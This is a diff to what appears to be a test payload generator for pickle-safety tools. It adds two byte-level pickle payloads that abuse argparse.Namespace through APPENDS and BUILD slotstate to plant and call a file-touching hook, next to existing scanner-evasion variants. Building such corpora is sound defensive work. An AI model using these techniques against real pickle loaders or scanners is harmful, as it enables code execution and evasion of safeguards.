@@ -169,7 +169,20 @@ def _touch_setstate_memo(s: Callable[[str], bytes]) -> bytes:
     return state + obj + b"g900\nb" + _path(s) + b"b"
 
 
+def _touch_append_plant(s: Callable[[str], bytes]) -> bytes:
+    # APPENDS on an object that is not a list calls obj.append, looked up on the instance.
+    obj = glob("argparse", "Namespace") + b")R"
+    return obj + b"(" + s("append") + _TOUCH + b"db(" + _path(s) + b"e"
+
+
+def _touch_slotstate_plant(s: Callable[[str], bytes]) -> bytes:
+    # BUILD's (state, slotstate) form: setattr for the second dict, then a BUILD calls the planted hook.
+    obj = glob("argparse", "Namespace") + b")R"
+    return obj + b"N(" + s("__setstate__") + _TOUCH + b"d\x86b" + _path(s) + b"b"
+
+
 PAYLOADS: dict[str, Callable[[Callable[[str], bytes]], bytes]] = {
+    "touch_append_plant": _touch_append_plant, "touch_slotstate_plant": _touch_slotstate_plant,
     "touch": _touch, "touch_rebuild": _touch_rebuild, "touch_randomstate": _touch_randomstate,
     "touch_dill_array": _touch_dill_array, "touch_setstate_decoys": _touch_setstate_decoys,
     "touch_setstate_memo": _touch_setstate_memo,
